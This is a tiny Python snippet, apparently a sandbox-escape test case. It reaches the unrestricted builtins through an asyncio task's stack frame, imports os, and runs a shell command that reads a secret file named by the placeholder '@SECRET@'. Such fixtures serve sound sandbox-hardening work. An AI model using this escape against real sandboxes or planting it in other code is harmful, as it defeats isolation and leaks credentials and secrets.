# An asyncio task hands out the stack of its coroutine.
# effect: run
import asyncio
async def main():
    frame = asyncio.current_task().get_stack()[0]
    frame.f_builtins["__import__"]("os").system("cat @SECRET@")
asyncio.run(main())
